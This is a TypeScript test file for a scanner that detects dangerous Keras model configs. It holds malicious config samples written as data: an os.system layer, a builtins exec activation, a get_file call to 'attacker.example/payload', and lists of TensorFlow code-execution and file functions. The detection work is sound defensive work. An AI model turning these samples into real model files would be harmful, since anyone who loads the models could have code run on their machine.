import { describe, expect, it } from 'vitest';
import { bytesSource } from '../../core/scan/byte-sources.js';
import { DEFAULT_MODEL_SCAN_LIMITS, type ArtifactContext, type ModelScanLimits } from '../artifact.js';
import { checkKerasConfigValue } from './keras-config-checks.js';
import {
  keras3Dense,
  keras3DenseModel,
  keras3FunctionalModel,
  keras3Lambda,
  keras3Sequential,
  kerasJson,
  LAMBDA_BYTECODE,
  legacyDenseModel,
  legacyLambda,
  legacySequential,
  tfOpLambda,
} from './keras-fixtures.test-support.js';
import { classifyTfApiFunction } from './keras-policy.js';
import { looksLikeKerasConfig, scanKerasConfig } from './keras.js';
import { mutate, randomBytes, seededRandom } from './protobuf-encoder.test-support.js';

function context(limits: Partial<ModelScanLimits> = {}): ArtifactContext {
  return {
    location: { path: 'model.keras', member: 'config.json' },
    limits: { ...DEFAULT_MODEL_SCAN_LIMITS, ...limits },
    depth: 1,
    scanNested: () => Promise.resolve([]),
  };
}

function scan(config: object | Uint8Array, limits: Partial<ModelScanLimits> = {}) {
  const bytes = config instanceof Uint8Array ? config : kerasJson(config);
  return scanKerasConfig(bytesSource(bytes), context(limits));
}

function summary(findings: Awaited<ReturnType<typeof scan>>) {
  return findings.map((f) => [f.ruleId, f.severity, f.evidence?.jsonPath]);
}

describe('scanKerasConfig', () => {
  it('finds nothing in benign Keras 3 and legacy configs', async () => {
    expect(await scan(keras3DenseModel())).toEqual([]);
    expect(await scan(keras3FunctionalModel())).toEqual([]);
    expect(await scan(legacyDenseModel())).toEqual([]);
    expect(
      await scan(legacySequential([tfOpLambda('math.add'), tfOpLambda('__operators__.getitem')])),
    ).toEqual([]);
    const hub = {
      module: 'keras_hub.src.models.gemma.gemma_backbone',
      class_name: 'GemmaBackbone',
      config: { name: 'gemma_backbone', vocabulary_size: 256000 },
      registered_name: 'keras_hub>GemmaBackbone',
    };
    expect(await scan(hub)).toEqual([]);
  });

  it('accepts Keras activations named through builtins', async () => {
    const activation = {
      module: 'builtins',
      class_name: 'function',
      config: 'relu',
      registered_name: 'function',
    };
    expect(await scan(keras3Sequential([keras3Dense('d', 2, activation, 4)]))).toEqual([]);
  });

  it('reports a Keras 3 Lambda layer as critical, with its JSON path', async () => {
    const findings = await scan(keras3Sequential([keras3Dense('dense', 16, 'relu', 4), keras3Lambda()]));
    expect(summary(findings)).toEqual([['BW-MODEL-040', 'critical', 'config.layers[2].config.function']]);
    expect(findings[0]?.location).toEqual({ path: 'model.keras', member: 'config.json' });
    expect(findings[0]?.evidence?.codeChars).toBe(LAMBDA_BYTECODE.length);
  });

  it('reports a legacy Lambda layer and a lambda output_shape', async () => {
    const lambda = legacyLambda() as { config: Record<string, unknown> };
    lambda.config.output_shape = [LAMBDA_BYTECODE, null, null];
    lambda.config.output_shape_type = 'lambda';
    const findings = await scan(legacySequential([lambda]));
    expect(summary(findings)).toEqual([
      ['BW-MODEL-040', 'critical', 'config.layers[1].config.function'],
      ['BW-MODEL-040', 'critical', 'config.layers[1].config.output_shape'],
    ]);
  });

  it('reports the CVE-2025-1550 pattern: dangerous modules, critical for exec-like names', async () => {
    const exec = { module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'function' };
    const system = { module: 'os', class_name: 'system', config: { command: 'id' }, registered_name: null };
    const sockets = { module: 'socket', class_name: 'socket', config: {}, registered_name: null };
    const findings = await scan(keras3Sequential([keras3Dense('d', 2, exec, 4), system, sockets]));
    expect(summary(findings)).toEqual([
      ['BW-MODEL-041', 'critical', 'config.layers[1].config.activation'],
      ['BW-MODEL-041', 'critical', 'config.layers[2]'],
      ['BW-MODEL-041', 'high', 'config.layers[3]'],
    ]);
    expect(findings[1]?.evidence).toMatchObject({ module: 'os', name: 'system' });
  });

  it('reports Keras APIs that reach files or switch safe mode off', async () => {
    const getFile = {
      module: 'keras.utils',
      class_name: 'get_file',
      config: { fname: 'x', origin: 'https://attacker.example/payload' },
      registered_name: null,
    };
    const unsafe = {
      module: 'keras.config',
      class_name: 'function',
      config: 'enable_unsafe_deserialization',
      registered_name: null,
    };
    const tfsm = {
      module: 'keras.layers',
      class_name: 'TFSMLayer',
      config: { filepath: '/tmp/m' },
      registered_name: null,
    };
    const findings = await scan(keras3Sequential([getFile, unsafe, tfsm]));
    expect(summary(findings)).toEqual([
      ['BW-MODEL-043', 'high', 'config.layers[1]'],
      ['BW-MODEL-043', 'high', 'config.layers[2]'],
      ['BW-MODEL-043', 'high', 'config.layers[3]'],
    ]);
  });

  it('reports custom objects from outside Keras as medium', async () => {
    const custom = {
      module: 'my_project.layers',
      class_name: 'Attention',
      config: { units: 4 },
      registered_name: 'my_project>Attention',
    };
    const registeredOnly = { class_name: 'Custom>Scale', config: { factor: 2 } };
    const findings = await scan(keras3Sequential([custom, registeredOnly]));
    expect(summary(findings)).toEqual([
      ['BW-MODEL-042', 'medium', 'config.layers[1]'],
      ['BW-MODEL-042', 'medium', 'config.layers[2]'],
    ]);
  });

  it('reports legacy Lambda layers that call named functions, by their module', async () => {
    const named = legacyLambda() as { config: Record<string, unknown> };
    named.config.function = 'my_fn';
    named.config.function_type = 'function';
    const viaOs = structuredClone(named);
    viaOs.config.function = 'system';
    viaOs.config.module = 'os';
    const findings = await scan(legacySequential([named, viaOs]));
    expect(summary(findings)).toEqual([
      ['BW-MODEL-042', 'medium', 'config.layers[1].config.function'],
      ['BW-MODEL-041', 'critical', 'config.layers[2].config.function'],
    ]);
  });

  it('reports TFOpLambda layers calling file or code functions', async () => {
    const findings = await scan(
      legacySequential([
        tfOpLambda('io.write_file'),
        tfOpLambda('compat.v1.py_func'),
        tfOpLambda('raw_ops.ReadFile'),
      ]),
    );
    expect(summary(findings)).toEqual([
      ['BW-MODEL-044', 'high', 'config.layers[1].config.function'],
      ['BW-MODEL-044', 'critical', 'config.layers[2].config.function'],
      ['BW-MODEL-044', 'high', 'config.layers[3].config.function'],
    ]);
  });

  it('reports invalid JSON, configs over the limit and configs nested too deep', async () => {
    expect(summary(await scan(new TextEncoder().encode('{"class_name": "Sequential", "config": ')))).toEqual([
      ['BW-MODEL-045', 'medium', undefined],
    ]);
    const big = kerasJson(keras3DenseModel());
    expect(summary(await scan(big, { maxMetadataBytes: 100 }))).toEqual([
      ['BW-MODEL-045', 'medium', undefined],
    ]);
    const deep = `${'['.repeat(5000)}${']'.repeat(5000)}`;
    const findings = await scan(new TextEncoder().encode(`{"class_name":"X","config":${deep}}`));
    expect(findings.map((f) => f.ruleId)).toEqual(['BW-MODEL-045']);
  });

  it('quotes odd keys in JSON paths and caps the number of findings', () => {
    const layers = Array.from({ length: 300 }, () => ({ module: 'evil.mod', class_name: 'X' }));
    const findings = checkKerasConfigValue(
      { 'weird key': { layers } },
      { location: { path: 'x.json' }, source: 'x.json' },
    );
    expect(findings).toHaveLength(100);
    expect(findings[0]?.evidence?.jsonPath).toBe('["weird key"].layers[0]');
  });

  it('never throws on mutated or random configs', async () => {
    const random = seededRandom(42);
    const seeds = [kerasJson(keras3DenseModel()), kerasJson(legacySequential([legacyLambda()]))];
    for (let i = 0; i < 1000; i++) {
      const input = i % 4 === 0 ? randomBytes(random, 200) : mutate(seeds[i % 2]!, random);
      const findings = await scan(input);
      for (const finding of findings) expect(finding.ruleId).toMatch(/^BW-MODEL-04\d$/);
    }
  });
});

describe('looksLikeKerasConfig', () => {
  const bytes = (text: string) => new TextEncoder().encode(text);

  it('recognizes Keras 3 and legacy configs', () => {
    expect(looksLikeKerasConfig(kerasJson(keras3DenseModel()))).toBe(true);
    expect(looksLikeKerasConfig(kerasJson(legacyDenseModel()))).toBe(true);
    expect(looksLikeKerasConfig(bytes('\ufeff  {"class_name": "Sequential", "config": {}}'))).toBe(true);
  });

  it('rejects other JSON', () => {
    expect(looksLikeKerasConfig(bytes('{"architectures": ["BertModel"], "model_type": "bert"}'))).toBe(false);
    expect(looksLikeKerasConfig(bytes('{"_class_name": "UNet2DConditionModel", "config": 1}'))).toBe(false);
    expect(looksLikeKerasConfig(bytes('[{"class_name": "x", "config": 1}]'))).toBe(false);
    expect(looksLikeKerasConfig(bytes(''))).toBe(false);
  });
});

describe('classifyTfApiFunction', () => {
  it.each([
    ['math.add', undefined],
    ['nn.relu', undefined],
    ['__operators__.getitem', undefined],
    ['io.read_file', false],
    ['io.gfile.remove', false],
    ['tf.compat.v1.io.write_file', false],
    ['py_function', true],
    ['numpy_function', true],
    ['load_op_library', true],
    ['raw_ops.PyFunc', true],
    ['raw_ops.WriteFile', false],
    ['raw_ops.MatMul', undefined],
  ])('%s', (name, runsCode) => {
    expect(classifyTfApiFunction(name)?.runsCode).toBe(runsCode);
  });
});
